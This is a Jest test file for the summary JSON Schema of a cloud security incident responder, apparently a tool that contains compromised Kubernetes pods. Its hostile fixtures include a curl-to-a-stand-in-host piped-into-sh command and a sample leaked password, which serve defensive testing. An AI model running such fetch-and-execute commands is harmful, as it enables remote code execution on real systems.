// The summary's JSON Schema that consumers of the ops topic get
// (schemas/summary-v1.schema.json): it is what the zod schema generates, ajv
// compiles it strictly, every summary the responder builds from the fixtures
// (hostile ones included) under the policies that set each field validates
// against it and against the strict zod schema, and it accepts fields added
// later within v1 while the strict check of our own output does not.
import { describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { decodeInput } from '../src/core/finding/envelope.ts';
import { findingKey } from '../src/core/finding/key.ts';
import type { ActionOutcome } from '../src/core/plan/outcome.ts';
import { validatePolicy, type Policy } from '../src/core/policy/policy.ts';
import type { Summary } from '../src/core/summary/document.ts';
import { buildReleaseSummary } from '../src/core/summary/release-summary.ts';
import { summaryJsonSchemaText } from '../src/core/summary/schema.ts';
import { notificationV1, notificationV2 } from './support/fixtures.ts';
import { enforcingPolicy, SUMMARY_NOW, summaryFor } from './support/summaries.ts';
import { checkSummary, SHIPPED_SUMMARY_SCHEMA, summaryAjv } from './support/summary-check.ts';

const shipped = () => JSON.parse(readFileSync(SHIPPED_SUMMARY_SCHEMA, 'utf8'));
/** The shipped file's own verdict, without the strict zod parse. */
const shippedProblems = (value: unknown) => checkSummary(value).filter((p) => p.startsWith('schema:'));
const zodProblems = (value: unknown) => checkSummary(value).filter((p) => p.startsWith('zod:'));

const dryRun = validatePolicy({ dryRun: true, rules: [{ name: 'contain', actions: ['label-pod', 'isolate-pod', 'delete-pod'] }] });
const excepting = validatePolicy({
  dryRun: false,
  exceptions: [{ name: 'curl-health', reason: 'the nightly probe', expires: '2027-01-01', owner: 'platform@example.com', match: { namespaces: ['payments'] } }],
  rules: [{ name: 'contain', actions: ['label-pod'] }],
});
const approval = validatePolicy({
  rules: [{ name: 'payments-approval', match: { namespaces: ['payments'] }, approval: 'required', actions: ['label-pod', 'delete-pod'], approvers: { users: ['U0APPROVER1'] } }],
});
const routed = enforcingPolicy({
  routes: [
    { name: 'payments', match: { namespaces: ['payments'] }, slackWebhookEnv: 'PAYMENTS_SLACK_WEBHOOK_URL' },
    { name: 'audit', pubsubTopic: 'projects/audit-project/topics/incidents' },
  ],
  summary: { revealEnvValues: ['HOSTNAME'] },
});
const POLICIES: [string, Policy][] = [
  ['dry-run', dryRun],
  ['enforced', enforcingPolicy()],
  ['an exception', excepting],
  ['approval required', approval],
  ['routes', routed],
];

/** The fixtures, and hostile variants of them that still decode: one field changed each. */
function notifications(): [string, Record<string, any>][] {
  const variant = (name: string, change: (n: Record<string, any>) => void): [string, Record<string, any>] => {
    const n = structuredClone(notificationV1());
    change(n);
    return [name, n];
  };
  return [
    ['notification-v1.json', notificationV1()],
    ['notification-v2.json', notificationV2()],
    variant('no name, no eventTime', (n) => {
      delete n.finding.name;
      delete n.finding.canonicalName;
      delete n.finding.eventTime;
    }),
    variant('an eventTime that is not a time', (n) => void (n.finding.eventTime = 'yesterday, around noon')),
    variant('lone surrogates and control characters', (n) => {
      n.finding.processes[0].args = ['sh', '-c', 'curl evil \uD800| sh\u0000\u202e'];
      n.finding.description = 'cut pair \uD83D <!channel> `x`';
    }),
    variant('Object.prototype names for MITRE', (n) => void (n.finding.mitreAttack = { primaryTactic: 'toString', primaryTechniques: ['constructor', 'UNIX_SHELL', 'NOT_A_TECHNIQUE'], additionalTactics: ['__proto__', 'PERSISTENCE'] })),
    variant('env on the parent, revealed or not', (n) => void (n.finding.processes[1].envVariables = [{ name: 'HOSTNAME', val: 'checkout' }, { name: 'TOKEN', val: 's3cret' }, { name: '', val: 'x' }])),
    variant('huge args and env', (n) => {
      n.finding.processes[0].args = Array.from({ length: 500 }, (_, i) => `${i}${'漢'.repeat(5000)}`);
      n.finding.processes[0].envVariables = Array.from({ length: 200 }, (_, i) => ({ name: `V${i}`, val: 'x'.repeat(10_000) }));
    }),
    variant('no processes', (n) => void (n.finding.processes = [])),
    variant('no kubernetes part', (n) => void delete n.finding.kubernetes),
    variant('another category (ignored)', (n) => void (n.finding.category = 'Malicious Script Executed')),
  ];
}

const EVIDENCE = {
  queries: [
    { kind: 'audit', filter: 'logName:"cloudaudit"', count: 3, url: 'https://console.cloud.google.com/logs/query;query=x', excerpts: ['kubectl exec checkout -- sh', 'password=hunter2'], incomplete: null },
    { kind: 'container', filter: 'resource.type="k8s_container"', count: 0, url: null, excerpts: [], incomplete: 'timeout: DEADLINE_EXCEEDED', truncated: true },
  ],
  links: { 'Logs Explorer': 'https://console.cloud.google.com/logs/query' },
  bundle: 'gs://evidence-bucket/incidents/6a7d/bundle.json',
  notes: ['evidence incomplete: timeout'],
};
const RESULTS: ActionOutcome[] = [
  { type: 'label-pod', status: 'done', reason: 'labelled' },
  { type: 'isolate-pod', status: 'partial', reason: 'still admitted by NetworkPolicy allow-all', details: { networkPolicy: 'scc-isolate-6a7d', enforcement: 'enforced', hostNetwork: false, stillAdmittedBy: null } },
  { type: 'delete-pod', status: 'skipped', reason: 'budget: 3 pod removals in 1h for the cluster' },
];

/** Every summary shape the responder sends, from the fixtures. */
function summaries(): [string, Summary][] {
  const out: [string, Summary][] = [];
  for (const [fixture, n] of notifications()) {
    for (const [policyName, policy] of POLICIES) out.push([`${fixture} under ${policyName}`, summaryFor(n, { policy })]);
  }
  const base = summaryFor(notificationV1(), { policy: routed, outcomes: RESULTS, evidence: EVIDENCE, warnings: ['ledger lost mid-run: x'], timings: { receivedAt: SUMMARY_NOW, publishTime: '2026-11-20T14:03:31.204Z', containmentMs: 1200, evidenceMs: 800 } });
  out.push(['evidence with queries, results, a budget refusal, timings', base]);
  // What the pipeline adds after building (src/pipeline/respond.ts), as it adds it.
  out.push([
    'owners, routes and the SCC write-back',
    {
      ...base,
      owners: [
        { who: 'secops@example.com', source: 'essential-contacts', key: null },
        { who: 'team-payments', source: 'namespace-label', key: 'team' },
      ],
      ownerNotes: ['workload labels: timed out'],
      scc: { marks: { status: 'written', values: { scc_responder_outcome: 'partial' }, reason: 'written' }, state: { status: 'unchanged', reason: 'partial: left active' } },
    },
  ]);
  const awaiting = summaryFor(notificationV1(), { policy: approval, outcomes: [{ type: 'label-pod', status: 'would', reason: 'would label' }] });
  out.push(['approval awaiting', { ...awaiting, approval: { status: 'awaiting', expiresAt: '2026-11-20T15:03:40.000Z', by: null, reason: null } }]);
  out.push(['approval approved', { ...awaiting, approval: { status: 'approved', expiresAt: null, by: { user: 'U0APPROVER1', name: 'alice' }, reason: null } }]);
  out.push(['approval refused', { ...awaiting, approval: { status: 'refused', expiresAt: null, by: null, reason: 'no ledger' } }]);
  out.push(['round 2 update', summaryFor(notificationV1(), { outcomes: [{ type: 'label-pod', status: 'pending', reason: 'UNAVAILABLE', details: { wrote: true } }] })]);
  const decoded = decodeInput(notificationV1());
  for (const dry of [true, false]) {
    out.push([
      `a release summary (dryRun ${dry})`,
      buildReleaseSummary({
        key: findingKey(decoded.notification.finding),
        target: base.target,
        outcomes: [{ type: 'label-pod', status: dry ? 'would' : 'done', reason: 'quarantine label removed' }, { type: 'cordon-node', status: 'skipped', reason: 'another incident holds the node', details: { leftInPlace: true } }],
        warnings: ['the node stays cordoned'],
        dryRun: dry,
        rules: routed.redaction,
        now: SUMMARY_NOW,
      }),
    ]);
  }
  return out;
}

/** Property paths a JSON Schema describes (`[]` for array items), through $ref and anyOf. */
function schemaPaths(root: Record<string, any>): string[] {
  const out = new Set<string>();
  const walk = (node: Record<string, any>, at: string) => {
    if (node.$ref) return walk(root.definitions[node.$ref.replace('#/definitions/', '')], at);
    for (const branch of node.anyOf ?? []) walk(branch, at);
    if (node.items) walk(node.items, `${at}[]`);
    for (const [key, child] of Object.entries<Record<string, any>>(node.properties ?? {})) {
      out.add(`${at}.${key}`);
      walk(child, `${at}.${key}`);
    }
  };
  walk(root, '');
  return [...out];
}

function valuePaths(value: unknown, at = '', out = new Set<string>()): Set<string> {
  if (Array.isArray(value)) for (const item of value) valuePaths(item, `${at}[]`, out);
  else if (typeof value === 'object' && value !== null) {
    for (const [key, child] of Object.entries(value)) {
      out.add(`${at}.${key}`);
      valuePaths(child, `${at}.${key}`, out);
    }
  }
  return out;
}

describe('schemas/summary-v1.schema.json', () => {
  it('is exactly what the zod schema generates (run `npm run summary-schema` after changing the summary)', () => {
    expect(readFileSync(SHIPPED_SUMMARY_SCHEMA, 'utf8')).toBe(summaryJsonSchemaText());
  });

  it('compiles in ajv strict mode, is draft-7 with an id, pins the schema name and lets consumers accept added fields', () => {
    const schema = shipped();
    expect(() => summaryAjv().compile(schema)).not.toThrow();
    expect(schema).toMatchObject({ $schema: 'http://json-schema.org/draft-07/schema#', $id: expect.stringMatching(/^urn:/), title: 'scc-responder.summary/v1' });
    expect(schema.properties.schema).toMatchObject({ const: 'scc-responder.summary/v1' });
    expect(readFileSync(SHIPPED_SUMMARY_SCHEMA, 'utf8')).not.toContain('"additionalProperties": false');
    for (const [name, field] of Object.entries<Record<string, unknown>>(schema.properties)) expect([name, typeof field.description]).toEqual([name, 'string']);
  });
});

describe('every summary the responder builds', () => {
  const built = summaries();

  it.each(built)('%s validates against the shipped schema and the strict zod schema', (_name, summary) => {
    expect(checkSummary(summary)).toEqual([]);
    // Through JSON, as a consumer of the ops topic reads it.
    expect(checkSummary(JSON.parse(JSON.stringify(summary)))).toEqual([]);
  });

  it('between them, set every field the schema describes', () => {
    const seen = new Set<string>();
    for (const [, summary] of built) valuePaths(summary, '', seen);
    expect(schemaPaths(shipped()).filter((p) => !seen.has(p))).toEqual([]);
  });
});

describe('what the schema refuses, and what it lets through', () => {
  const good = () => structuredClone(summaryFor(notificationV1()));

  it.each<[string, (s: Record<string, any>) => void]>([
    ['a wrong type', (s) => void (s.round = '1')],
    ['a missing required field', (s) => void delete s.timings],
    ['a missing nested field', (s) => void delete s.target.pod],
    ['an unknown outcome', (s) => void (s.outcome = 'vanquished')],
    ['an unknown action status', (s) => void (s.actions[0].status = 'maybe')],
    ['another schema version', (s) => void (s.schema = 'scc-responder.summary/v2')],
    ['a time that is not RFC 3339', (s) => void (s.timings.receivedAt = 'yesterday')],
    ['a null where none is allowed', (s) => void (s.processes = null)],
  ])('%s fails the shipped schema and the strict parse', (_name, breakIt) => {
    const s = good();
    expect(checkSummary(s)).toEqual([]);
    breakIt(s);
    expect(shippedProblems(s)).not.toEqual([]);
    expect(zodProblems(s)).not.toEqual([]);
  });

  it.each<[string, (s: Record<string, any>) => void]>([
    ['at the top', (s) => void (s.severityScore = 9.8)],
    ['in a nested object', (s) => void (s.target.zone = 'us-central1-a')],
    ['in a process', (s) => void (s.processes.child.cwd = '/app')],
    ['in an action', (s) => void (s.actions[0].startedAt = '2026-11-20T14:03:39Z')],
  ])('a field added later within v1 (%s) passes the shipped schema but not the strict check of our own output', (_name, add) => {
    const s = good();
    add(s);
    expect(shippedProblems(s)).toEqual([]);
    expect(zodProblems(s)).toEqual([expect.stringMatching(/Unrecognized key/)]);
  });
});
